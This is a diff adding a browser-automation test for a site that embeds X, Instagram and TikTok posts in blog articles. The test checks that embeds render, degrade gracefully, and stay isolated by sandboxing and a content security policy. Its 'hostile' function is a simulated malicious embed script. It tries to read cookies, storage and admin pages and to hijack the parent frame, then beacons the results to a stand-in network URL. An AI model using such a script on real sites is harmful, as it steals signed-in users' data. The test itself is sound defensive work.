@@ -1,0 +1,323 @@
+// Posts of social networks in articles: they show, and whatever a network sends, it reaches nothing that is this site's.
+
+import type { Browser, BrowserContext, Page } from "playwright";
+import { afterAll, beforeAll, expect, test } from "vitest";
+import { fillOne } from "#app/starter/fill.server.ts";
+import { startAdminSite } from "#tests/support/admin-site.ts";
+import { isAt, isInteractive, launch, openPage, visit } from "#tests/support/browser.ts";
+import { DEMO_ADMIN } from "#tests/support/people.ts";
+import type { Site } from "#tests/support/site.ts";
+
+const posts = `
+<blockquote class="twitter-tweet" data-lang="ja"><p>脱皮しました</p><a href="https://twitter.com/a/status/1">Xの出典</a></blockquote>
+<script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>
+<script async src="https://platform.twitter.com/any/other.js"></script><script src="https://platform.x.com/x.js"></script>
+<p>つぎ</p>
+<blockquote class="instagram-media" data-instgrm-permalink="https://www.instagram.com/p/Cabc123/"><a href="https://www.instagram.com/p/Cabc123/">Instagramの出典</a></blockquote>
+<script async src="https://www.instagram.com/embed.js"></script>
+<p>つぎ</p>
+<blockquote class="tiktok-embed" cite="https://www.tiktok.com/@a/video/12" data-video-id="12"><a href="https://www.tiktok.com/@a/video/12">TikTokの出典</a></blockquote>
+<script async src="https://www.tiktok.com/embed.js"></script>
+<p>つぎ</p>
+<a class="twitter-timeline" href="https://twitter.com/keeper">keeperの投稿</a>
+<p>おわり</p>`;
+const sources = ["Xの出典", "Instagramの出典", "TikTokの出典", "keeperの投稿"];
+
+let site: Site;
+let cookie: string;
+let browser: Browser;
+beforeAll(async () => {
+  ({ site, cookie } = await startAdminSite());
+  for (const id of ["posts", "more-posts"]) {
+    const fields = { tags: [], author: "" };
+    const item = { kind: "blog", id, title: id, summary: "", body: posts, cover: null, fields } as const;
+    await fillOne(site.db, { ...item, publishedAt: "2026-01-01T00:00:00.000Z" }, new Date());
+  }
+  browser = await launch();
+});
+afterAll(async () => {
+  await site.stop();
+});
+
+/** What each network's frame says of its height, and what its script makes of a quotation. */
+const said: Record<string, string> = {
+  "platform.twitter.com": `{ "twttr.embed": { method: "twttr.private.resize", params: [{ height: 321 }] } }`,
+  "www.instagram.com": `JSON.stringify({ type: "MEASURE", details: { height: 322 } })`,
+  "www.tiktok.com": `JSON.stringify({ signalSource: name, height: 323 })`,
+};
+const widget = `
+  const made = document.createElement("iframe");
+  made.style.cssText = "display:block;border:0;height:324px";
+  made.src = "https://platform.twitter.com/timeline";
+  document.querySelector(".twitter-timeline").replaceWith(made);`;
+
+/** The networks as they are when all is well; the addresses they were asked for. */
+async function friendly(context: BrowserContext): Promise<string[]> {
+  const asked: string[] = [];
+  await context.route(/^https:\/\//, (route) => {
+    const url = new URL(route.request().url());
+    asked.push(url.host + url.pathname);
+    if (url.pathname.endsWith(".js")) return route.fulfill({ contentType: "text/javascript", body: widget });
+    const body = `<!DOCTYPE html><p>${url.host}から</p><script>parent.postMessage(${said[url.host]}, "*")</script>`;
+    return route.fulfill({ contentType: "text/html; charset=utf-8", body });
+  });
+  return asked;
+}
+
+const frameOf = (page: Page, src: string) => page.locator(`main iframe[src^="${src}"]`);
+const networks = {
+  X: "https://platform.twitter.com/embed/Tweet.html?id=1&",
+  Instagram: "https://www.instagram.com/p/Cabc123/embed/",
+  TikTok: "https://www.tiktok.com/embed/v2/12",
+  timeline: "/embed/x",
+};
+
+async function seesAll(page: Page): Promise<void> {
+  for (const [index, src] of Object.values(networks).entries()) {
+    const frame = frameOf(page, src);
+    await frame.scrollIntoViewIfNeeded();
+    await expect.poll(() => frame.evaluate(({ offsetHeight }: HTMLElement) => offsetHeight)).toBe(321 + index);
+    expect(await frame.evaluate((element) => getComputedStyle(element).opacity)).toBe("1");
+    expect(await page.getByRole("link", { name: sources[index] }).isVisible()).toBe(false);
+  }
+}
+
+test("posts show, after client navigation too; the page itself loads no script of a network", async () => {
+  const { page, complaints, close } = await openPage(browser, { viewport: { width: 390, height: 844 } });
+  const asked = await friendly(page.context());
+  const requested: string[] = [];
+  page.on("request", (request) => {
+    if (request.frame() === page.mainFrame() && !request.url().startsWith(site.origin)) requested.push(request.url());
+  });
+  await visit(page, `${site.origin}/blog/posts`);
+  await seesAll(page);
+  await page.evaluate(() => {
+    document.body.dataset.same = "yes";
+  });
+  await page.locator('main a[href="/blog"]').first().click();
+  await isAt(page, "/blog");
+  await page.locator("a[href='/blog/more-posts']").first().click();
+  await isAt(page, "/blog/more-posts");
+  await seesAll(page);
+  expect(await page.evaluate(() => document.body.dataset.same)).toBe("yes");
+  expect(requested).toEqual([]);
+  expect([...new Set(asked.filter((address) => address.endsWith(".js")))]).toEqual(["platform.twitter.com/widgets.js"]);
+  expect(complaints).toEqual([]);
+  await close();
+}, 60_000);
+
+test("where a network cannot be reached, and without JavaScript, the quotations with their links are there", async () => {
+  const { page, close } = await openPage(browser);
+  await page.route(/^https:\/\//, (route) => route.abort());
+  await visit(page, `${site.origin}/blog/posts`);
+  for (const src of Object.values(networks)) await frameOf(page, src).scrollIntoViewIfNeeded();
+  await page.waitForLoadState("networkidle");
+  for (const name of sources) expect(await page.getByRole("link", { name }).isVisible(), name).toBe(true);
+  await close();
+  const plain = await openPage(browser, { javaScriptEnabled: false });
+  const asked = await friendly(plain.page.context());
+  await visit(plain.page, `${site.origin}/blog/posts`);
+  for (const name of sources) expect(await plain.page.getByRole("link", { name }).isVisible(), name).toBe(true);
+  expect(await plain.page.locator("main iframe").count()).toBe(0);
+  expect(asked).toEqual([]);
+  await plain.close();
+}, 60_000);
+
+/** All that a script could try, each attempt by itself. Whatever it gets, it tells its company. */
+function hostile(origin: string): void {
+  const got: string[] = [];
+  const attempts: Record<string, () => unknown> = {
+    storage: () => JSON.stringify(localStorage),
+    session: () => JSON.stringify(sessionStorage),
+    "parent's storage": () => JSON.stringify(parent.localStorage),
+    "top's storage": () => JSON.stringify(top?.localStorage),
+    cookie: () => document.cookie,
+    "parent's cookie": () => parent.document.cookie,
+    "parent's page": () => parent.document.documentElement.outerHTML,
+    "parent's address": () => parent.location.href,
+    siblings: () => Array.from({ length: parent.length }, (_, index) => parent[index]?.document.title).join(),
+    opener: () => opener.document.title,
+    "opener's parent": () => parent.opener.document.title,
+    database: async () => JSON.stringify(await indexedDB.databases()),
+    "parent's database": async () => JSON.stringify(await parent.indexedDB.databases()),
+    caches: async () => (await caches.keys()).join(),
+    "parent's caches": async () => (await parent.caches.keys()).join(),
+    workers: async () => (await navigator.serviceWorker.getRegistrations()).map(({ scope }) => scope).join(),
+    fetched: async () => (await fetch(`${origin}/admin/dashboard`, { credentials: "include" })).text(),
+    "fetched relatively": async () => (await fetch("/admin/dashboard", { credentials: "include" })).text(),
+    data: async () => (await fetch(`${origin}/admin/dashboard.data`, { credentials: "include" })).text(),
+    "parent fetched": async () => (await parent.fetch(`${origin}/admin/dashboard`)).text(),
+    requested: () => {
+      const request = new XMLHttpRequest();
+      request.open("GET", `${origin}/admin/dashboard`, false);
+      request.withCredentials = true;
+      request.send();
+      return request.responseText;
+    },
+    framed: () =>
+      new Promise((resolve, reject) => {
+        const frame = document.createElement("iframe");
+        frame.src = `${origin}/admin/dashboard`;
+        frame.onload = () => {
+          try {
+            resolve(frame.contentDocument?.documentElement.outerHTML);
+          } catch (error) {
+            reject(error);
+          }
+        };
+        document.body.append(frame);
+        setTimeout(reject, 3_000);
+      }),
+    scripted: () => {
+      const script = document.createElement("script");
+      script.src = `${origin}/admin/dashboard`;
+      document.body.append(script);
+    },
+    "written into the parent": () => {
+      parent.document.body.innerHTML = `${"SEC"}RET`;
+    },
+    "run in the parent": () => {
+      parent.location = "javascript:window.tainted=true";
+    },
+    "top led away": () => {
+      if (top) top.location = "https://platform.twitter.com/away";
+    },
+    "parent led away": () => {
+      parent.location.replace("https://platform.twitter.com/away");
+    },
+    windows: () => window.open(`${origin}/admin/dashboard`)?.document.title,
+    messages: () => {
+      for (const message of ["out", { height: 1e9 }, `{"height":"9;position:fixed"}`]) parent.postMessage(message, "*");
+    },
+    channel: () => new BroadcastChannel("admin-sign-in").postMessage("out"),
+  };
+  Object.assign(window, { tainted: true });
+  const all = Object.entries(attempts).map(async ([name, attempt]) => {
+    try {
+      got.push(`${name}: ${await attempt()}`);
+    } catch (error) {
+      got.push(`${name}: no, ${String(error).slice(0, 40)}`);
+    }
+  });
+  void Promise.all(all).then(() => {
+    const whole = encodeURIComponent(got.join("\n").slice(0, 6_000));
+    new Image().src = `https://platform.twitter.com/report?where=${encodeURIComponent(location.href)}&got=${whole}`;
+  });
+}
+
+interface Report {
+  where: string;
+  got: string;
+}
+
+/** Every address of every network answered by the stand-in: as a script, or as a page that runs it. */
+async function hostileNetworks(context: BrowserContext): Promise<Report[]> {
+  const reports: Report[] = [];
+  const script = `(${hostile.toString()})(${JSON.stringify(site.origin)});`;
+  await context.route(/^https:\/\//, (route) => {
+    const url = new URL(route.request().url());
+    if (url.pathname === "/report") {
+      reports.push({ where: url.searchParams.get("where") ?? "", got: url.searchParams.get("got") ?? "" });
+      return route.fulfill({ status: 204 });
+    }
+    if (url.pathname.endsWith(".js")) return route.fulfill({ contentType: "text/javascript", body: script });
+    const page = `<!DOCTYPE html><body><script>${script}</script>`;
+    return route.fulfill({ contentType: "text/html; charset=utf-8", body: page });
+  });
+  return reports;
+}
+
+/** A browser in which an admin is signed in, and in which things of the site's own lie. */
+async function signedIn(): Promise<BrowserContext> {
+  const context = await browser.newContext({
+    serviceWorkers: "block",
+    viewport: { width: 1280, height: 2400 },
+    userAgent: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/150.0.0.0 Safari/537.36",
+  });
+  const [name = "", value = ""] = cookie.split(/=(.*)/);
+  await context.addCookies([
+    { name, value, url: site.origin, httpOnly: true, sameSite: "Lax" },
+    { name: "SECRET-cookie", value: "1", url: site.origin },
+  ]);
+  await context.addInitScript((origin) => {
+    if (location.origin !== origin) return;
+    localStorage.setItem("SECRET-storage", "1");
+    sessionStorage.setItem("SECRET-session", "1");
+    indexedDB.open("SECRET-database");
+  }, site.origin);
+  return context;
+}
+
+/** Four stand-ins have run here, three at their networks and one in the frame without an origin, and have got nothing. */
+async function gotNothing(page: Page, reports: Report[], context = page.mainFrame()): Promise<void> {
+  for (const src of Object.values(networks))
+    await context.locator(`main iframe[src^="${src}"]`).scrollIntoViewIfNeeded();
+  const places = () => [...new Set(reports.map(({ where }) => new URL(where).host + new URL(where).pathname))].sort();
+  await expect
+    .poll(places)
+    .toEqual([
+      `${new URL(site.origin).host}/embed/x`,
+      "platform.twitter.com/embed/Tweet.html",
+      "www.instagram.com/p/Cabc123/embed/",
+      "www.tiktok.com/embed/v2/12",
+    ]);
+  for (const { where, got } of reports) {
+    expect(got, where).not.toMatch(/SECRET/);
+    expect(got, where).not.toContain(DEMO_ADMIN);
+    // They did try: most attempts were refused by the browser.
+    expect(got.match(/: no, /g)?.length, where).toBeGreaterThan(10);
+  }
+  const own = page.frames().filter((frame) => frame.url().startsWith(site.origin) && !frame.url().includes("/embed/"));
+  for (const frame of own) expect(await frame.evaluate(() => "tainted" in window), frame.url()).toBe(false);
+  expect(page.url()).toContain(site.origin);
+  expect(await page.evaluate(() => document.body.textContent)).not.toContain("SECRET");
+  reports.length = 0;
+}
+
+test("a hostile network gets nothing of a signed-in admin's, on pages, previews and in the admin", async () => {
+  const context = await signedIn();
+  const reports = await hostileNetworks(context);
+  const page = await context.newPage();
+
+  await visit(page, `${site.origin}/blog/posts`);
+  await gotNothing(page, reports);
+  await page.locator('main a[href="/blog"]').first().click();
+  await isAt(page, "/blog");
+  await page.locator("a[href='/blog/more-posts']").first().click();
+  await isAt(page, "/blog/more-posts");
+  await gotNothing(page, reports);
+
+  await visit(page, `${site.origin}/admin/blogs/posts/preview`);
+  await gotNothing(page, reports);
+
+  // The admin opened from a page with such posts is another document.
+  await visit(page, `${site.origin}/blog/posts`);
+  await page.evaluate(() => {
+    document.body.dataset.same = "yes";
+  });
+  await page.goto(`${site.origin}/admin/blogs/posts/edit`);
+  await isInteractive(page);
+  expect(await page.evaluate(() => document.body.dataset.same)).toBeUndefined();
+  reports.length = 0;
+  await page.waitForLoadState("networkidle");
+  expect(reports).toEqual([]);
+  expect(await page.evaluate(() => "tainted" in window)).toBe(false);
+  expect(await page.getByText("ログインが終わりました").count()).toBe(0);
+  await context.close();
+}, 120_000);
+
+test("no script of a network may run in any page, whatever stands in its HTML", async () => {
+  const pages = ["/", "/ball", "/blog", "/blog/posts", "/policy", "/admin/login"];
+  for (const path of pages) {
+    const response = await fetch(site.origin + path, { headers: { "User-Agent": "Mozilla/5.0 Chrome/150.0" } });
+    const policy = response.headers.get("Content-Security-Policy") ?? "";
+    expect(policy, path).toMatch(/script-src 'self'/);
+    expect(policy, path).not.toMatch(/twitter|x\.com|instagram|tiktok|twimg/);
+  }
+  const frame = await fetch(`${site.origin}/embed/x`);
+  const policy = frame.headers.get("Content-Security-Policy") ?? "";
+  expect(policy).toMatch(/^sandbox allow-scripts /);
+  expect(policy).not.toMatch(/allow-same-origin|allow-top-navigation|'self'(?!$)|unsafe-inline' *;? *script/);
+  expect(policy).toContain("frame-ancestors 'self'");
+  expect((await fetch(`${site.origin}/embed/constructor`)).status).toBe(404);
+});
